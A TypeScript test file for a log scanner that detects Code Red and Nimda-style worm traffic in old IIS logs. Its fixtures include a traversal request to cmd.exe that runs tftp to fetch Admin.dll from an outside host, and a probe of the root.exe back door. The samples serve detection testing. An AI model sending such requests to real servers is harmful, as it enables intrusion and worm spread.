import { deepEqual, equal, match, ok } from 'node:assert/strict'
import { test } from 'node:test'
import { parseNetwork } from '@redalert/core'
import { folderOf } from './cli/program.ts'
import { backDoor, codeRed, codeRedTarget, line, visitor } from './cli/sample-lines.ts'
import type { Finding } from './finding.ts'
import { findLogs } from './read/find-logs.ts'
import { scan } from './scan.ts'
import type { ScanOptions } from './scan-options.ts'

/** A worm that tells its victim to fetch the worm's own file. */
const fetching = line(
  '198.51.100.7',
  'GET /scripts/..%255c../winnt/system32/cmd.exe?/c+tftp%20-i%20192.0.2.99%20GET%20Admin.dll%20Admin.dll HTTP/1.0',
)

async function scanned(
  files: Readonly<Record<string, string>>,
  options: Partial<ScanOptions> = {},
): Promise<readonly Finding[]> {
  const found = await findLogs(Object.keys(files), { folder: folderOf(files) })
  const findings: Finding[] = []
  for await (const finding of scan(found, { sensor: 'www', clock: () => 0, ...options }))
    findings.push(finding)
  return findings
}

function of<Kind extends Finding['kind']>(findings: readonly Finding[], kind: Kind) {
  return findings.filter((each): each is Extract<Finding, { kind: Kind }> => each.kind === kind)
}

test('what a scan says comes in order: heading, rows, payload hosts, coverage, summary', async () => {
  const findings = await scanned({ 'a.log': codeRed('192.0.2.7') + fetching + visitor })
  deepEqual(
    findings.map(({ kind }) => kind),
    ['redalert', 'sighting', 'sighting', 'payload-host', 'coverage', 'summary'],
  )
  deepEqual(of(findings, 'payload-host'), [
    { kind: 'payload-host', host: '192.0.2.99', sources: ['198.51.100.7'] },
  ])
  deepEqual(of(findings, 'coverage')[0]?.hours, { '2001-07-19T14': 3 })
})

test('every line is counted as one of four things', async () => {
  const [summary] = of(
    await scanned({ 'a.log': `${codeRed('192.0.2.7')}${visitor}nobody reads this\n\n# comment\n` }),
    'summary',
  )
  const { bytes, seconds: _, ...counts } = summary!
  ok(bytes > 0)
  deepEqual(counts, {
    kind: 'summary',
    files: 1,
    lines: 5,
    matched: 1,
    other: 1,
    unread: 1,
    skipped: 2,
    first: '2001-07-19T14:08:55Z',
    last: '2001-07-19T14:08:55Z',
  })
})

test('the same log twice adds lines and files, and no request', async () => {
  const log = codeRed('192.0.2.7')
  const [row] = of(await scanned({ 'a.log': log, 'b.log': log }), 'sighting')
  deepEqual(
    [row?.lines, row?.files, row?.requests],
    [2, ['a.log', 'b.log'], { count: 1, exact: true }],
  )
})

test('a row tells the line in which it can be seen', async () => {
  const [row] = of(await scanned({ 'a.log': visitor + codeRed('192.0.2.7') }), 'sighting')
  deepEqual(
    row?.evidence.map(({ file, line: number }) => [file, number]),
    [['a.log', 2]],
  )
  match(row?.evidence[0]?.text ?? '', /^192\.0\.2\.7 - - \[19\/Jul\/2001/)
})

test('a back door that this server answered is asked about, and one that it refused is not', async () => {
  const refused = line('203.0.113.5', 'GET /scripts/root.exe?/c+dir HTTP/1.0', { status: 404 })
  const answered = of(await scanned({ 'a.log': refused + backDoor }), 'answered')
  deepEqual(
    answered.map(({ file, line: number }) => [file, number]),
    [['a.log', 2]],
  )
})

test('what is not asked for is not shown, and its payload hosts neither', async () => {
  const files = { 'a.log': codeRed('192.0.2.7') + fetching }
  for (const options of [{ minGrade: 'infected' }, { families: ['codered-n'] }] as const) {
    const findings = await scanned(files, options)
    deepEqual(
      of(findings, 'sighting').map(({ family }) => family),
      ['codered-n'],
    )
    deepEqual(of(findings, 'payload-host'), [])
    equal(of(findings, 'summary')[0]?.matched, 2)
  }
})

test("private addresses and one's own networks are set apart, and so are proxies and mere names", async () => {
  const sources = ['10.0.0.7', '192.0.2.7', '198.51.100.7', '203.0.113.7', 'host.example.org']
  const rows = of(
    await scanned(
      { 'a.log': sources.map(source => codeRed(source)).join('') },
      { mine: [parseNetwork('192.0.2.0/24')!], proxies: [parseNetwork('198.51.100.0/24')!] },
    ),
    'sighting',
  )
  deepEqual(Object.fromEntries(rows.map(({ source, setApart }) => [source, setApart])), {
    '10.0.0.7': 'mine',
    '192.0.2.7': 'mine',
    '198.51.100.7': 'proxy',
    '203.0.113.7': null,
    'host.example.org': 'name',
  })
})

test('dates that may be read two ways are told once a file', async () => {
  const native = (date: string) =>
    `192.0.2.7, -, ${date}, 16:55:47, W3SVC1, SRV, 198.51.100.7, 10, 389, 3405, 404, 2, GET, ${codeRedTarget.replace('?', ', ')},\n`
  const findings = await scanned({
    'a.log': native('8/7/01') + native('8/8/01') + native('8/9/01'),
    'b.log': native('8/19/01'),
  })
  deepEqual(
    of(findings, 'remark').map(({ code, file }) => [code, file]),
    [['month-first', 'a.log']],
  )
  equal(of(findings, 'sighting')[0]?.first, '2001-08-07T16:55:47Z')
})

test('a stopped scan tells how many logs it left out, and judges what it read', async () => {
  const stop = new AbortController()
  const findings = await scanned(
    { 'a.log': codeRed('192.0.2.7'), 'b.log': visitor, 'c.log': visitor },
    { signal: stop.signal, progress: () => stop.abort() },
  )
  deepEqual(
    of(findings, 'fault').map(({ code }) => code),
    ['stopped'],
  )
  match(of(findings, 'fault')[0]!.message, /^2 more logs were not read/)
  equal(of(findings, 'sighting').length, 1)
  equal(of(findings, 'summary')[0]?.files, 1)
})

test('the progress of several logs adds up to their size', async () => {
  let bytes = 0
  const [summary] = of(
    await scanned(
      { 'a.log': visitor.repeat(100), 'b.log': visitor.repeat(50) },
      { progress: progress => (bytes = progress.bytes) },
    ),
    'summary',
  )
  deepEqual([bytes, summary?.bytes], [visitor.length * 150, visitor.length * 150])
})
